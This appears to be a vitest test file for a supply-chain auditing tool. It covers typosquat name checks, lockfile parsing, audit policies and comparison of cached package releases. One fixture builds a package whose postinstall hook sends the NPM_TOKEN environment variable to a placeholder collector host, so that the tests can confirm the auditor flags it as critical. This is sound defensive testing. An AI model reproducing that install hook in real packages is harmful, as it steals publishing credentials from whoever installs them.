import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import fs, { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { AuditReport } from '@galley/findings'
import { tempFolder } from '@galley/testkit/vitest'
import { openReleaseCache } from '@galley/upgrade'
import { describe, expect, test } from 'vitest'
import { npmLock } from '../../../test/lockfiles.ts'
import type { AuditedFile } from '../auditor.ts'
import { auditTexts } from './audit-texts.ts'
import { openAuditor } from './open-auditor.ts'

const clock = (): Date => new Date('2026-11-24T00:00:00Z')
const data = tempFolder()
const releases = join(data, 'cache', 'releases')

const audited = async (files: readonly AuditedFile[], since?: readonly AuditedFile[]): Promise<AuditReport> =>
  auditTexts({ files, since, releases }, { clock, fs })

describe('an audit from memory', () => {
  test('a planted imitation is found in its line; what needs a network is not asked', async () => {
    const report = await audited([npmLock('axois', 'react')])
    expect(report.complete).toBe(true)
    expect(report.coverage.files).toEqual([{ path: 'package-lock.json', format: 'npm', packages: 2, counted: 2 }])
    expect(report.findings.map(({ code, subject }) => [code, subject])).toEqual([['name-confusion', 'pkg:npm/axois@1.0.0']])
    expect(report.findings[0]?.at?.line).toBeGreaterThan(5)
    const notAsked = report.coverage.checks.filter(({ state }) => state === 'notAsked').map(({ name }) => name)
    expect(notAsked).toEqual(['vulnerabilities', 'signatures', 'provenance', 'age', 'publishers'])
  })

  test('a manifest is read beside its lockfile', async () => {
    const manifest = { name: 'package.json', text: '{"name":"demo","dependencies":{"react":"^2.0.0"}}' }
    expect((await audited([npmLock('react'), manifest])).findings.map(({ code }) => code)).toContain('lock-drift')
  })

  test('what is handed in and not read is never passed over', async () => {
    const report = await audited([npmLock('react'), { name: 'notes.md', text: '# Notes' }])
    expect(report.complete).toBe(false)
    expect(report.findings).toMatchObject([{ code: 'blind-spot', subject: 'notes.md' }])
    expect(report.summary.high).toBe(1)
  })

  test.each(['', '\u0000', '{', '[]', '{"lockfileVersion": 99}', '<<<<<<< HEAD\n{}\n=======\n{}\n>>>>>>> other\n'])(
    'a lockfile that holds %j is not complete',
    async (text) => {
      const report = await audited([{ name: 'package-lock.json', text }])
      expect([report.complete, report.findings[0]?.code]).toEqual([false, 'blind-spot'])
    },
  )

  test('a policy among the files is the policy', async () => {
    const policy = (value: object): AuditedFile => ({ name: 'audit-policy.json', text: JSON.stringify(value) })
    const without = await audited([npmLock('axois'), policy({ checks: { names: false } })])
    expect(without.findings).toEqual([])
    const more = await audited([npmLock('react'), policy({ checks: { vulnerabilities: true } })])
    expect([more.complete, more.coverage.checks[0]?.reason]).toEqual([false, expect.stringContaining('reaches for nothing')])
    await expect(audited([npmLock('react'), policy({ oops: 1 })])).rejects.toMatchObject({ code: 'AUDIT_POLICY_INVALID' })
  })
})

/** A release in the cache of archives, as `galley audit --since` would have left it there; answers its integrity. */
function keepRelease(name: string, files: Readonly<Record<string, string>>): string {
  const folder = join(data, name, 'package')
  mkdirSync(folder, { recursive: true })
  for (const [file, text] of Object.entries(files)) writeFileSync(join(folder, file), text)
  const archive = execFileSync('tar', ['-czf', '-', '-C', join(data, name), 'package'])
  const hash = createHash('sha512').update(archive).digest()
  openReleaseCache(fs, releases).putArchive({ algorithm: 'sha512', hex: hash.toString('hex') }, archive)
  return `sha512-${hash.toString('base64')}`
}

function lockOf(name: string, version: string, integrity: string): AuditedFile {
  const resolved = `https://registry.npmjs.org/${name}/-/${name}-${version}.tgz`
  const packages = { '': { dependencies: { [name]: version } }, [`node_modules/${name}`]: { version, resolved, integrity } }
  return { name: 'package-lock.json', text: JSON.stringify({ lockfileVersion: 3, packages }, null, 2) }
}

describe('an earlier state', () => {
  const calm = keepRelease('calm', { 'package.json': '{}', 'index.js': 'exports.one = 1\n' })
  const loud = keepRelease('loud', {
    'package.json': '{"scripts":{"postinstall":"node index.js"}}',
    'index.js': "require('https').get('https://collector.example/' + process.env.NPM_TOKEN)\n",
  })

  test('is compared release by release, with the archives that were opened before', async () => {
    const report = await audited([lockOf('taken', '1.0.1', loud)], [{ ...lockOf('taken', '1.0.0', calm), name: 'npm-shrinkwrap.json' }])
    expect(report.upgrades).toMatchObject({ since: 'the earlier files', cards: [{ from: '1.0.0', to: '1.0.1', opened: true }] })
    expect(report.findings[0]).toMatchObject({ severity: 'critical', subject: 'pkg:npm/taken@1.0.1', at: { file: 'package-lock.json' } })
    expect(report.coverage.checks).toContainEqual({ name: 'upgrades', state: 'done' })
    expect(report.complete).toBe(true)
  })

  test('of which an archive is not here is told, and never quiet', async () => {
    const hash = `sha512-${Buffer.alloc(64, 7).toString('base64')}`
    const [before, after] = [lockOf('taken', '1.0.0', calm), lockOf('taken', '1.0.1', hash)]
    const report = await audited([after], [before])
    expect(report.upgrades?.cards).toMatchObject([{ opened: false }])
    expect(report.findings.map(({ code, severity }) => [code, severity])).toEqual([['not-checked', 'info']])
    const asking = { name: 'audit-policy.json', text: '{"checks":{"upgrades":true}}' }
    expect((await audited([after, asking], [before])).complete).toBe(false)
  })

  test('that holds no lockfile is refused', async () => {
    await expect(audited([lockOf('taken', '1.0.1', loud)], [{ name: 'notes.md', text: '' }])).rejects.toMatchObject({
      code: 'AUDIT_NOTHING_FOUND',
    })
  })
})

describe('the auditor', () => {
  const auditor = openAuditor({ clock, data })
  const { signal } = new AbortController()

  test('it audits in a thread, several askers one after the other', async () => {
    const [one, two] = await Promise.all([
      auditor.audit([npmLock('axois')], { signal }),
      auditor.audit([npmLock('react'), { name: 'notes.md', text: '' }], { signal }),
    ])
    expect([one.findings.map(({ code }) => code), one.complete, two.complete]).toEqual([['name-confusion'], true, false])
  })

  test('a fault comes back as it was, and the next audit is made', async () => {
    await expect(auditor.audit([{ name: 'notes.md', text: '' }], { signal })).rejects.toMatchObject({
      code: 'AUDIT_NOTHING_FOUND',
      status: 422,
      exit: 3,
    })
    expect((await auditor.audit([npmLock('react')], { signal })).findings).toEqual([])
  })

  test('it compares in its thread too', async () => {
    const report = await auditor.audit([npmLock('react')], { signal, since: [npmLock('react', 'vue')] })
    expect(report.upgrades).toMatchObject({ cards: [], removed: ['vue@1.0.0'] })
  })

  test('an audit that is not wanted any more ends', async () => {
    const asked = new AbortController()
    const running = auditor.audit([npmLock('react')], { signal: asked.signal })
    asked.abort()
    await expect(running).rejects.toMatchObject({ name: 'AbortError' })
  })

  test('names are checked', async () => {
    expect(await auditor.checkName('npm', 'expresss')).toMatchObject({ verdict: 'block', target: 'express' })
    expect(await auditor.checkName('npm', '@azure/arm-cdn')).toMatchObject({ verdict: 'none' })
  })
})
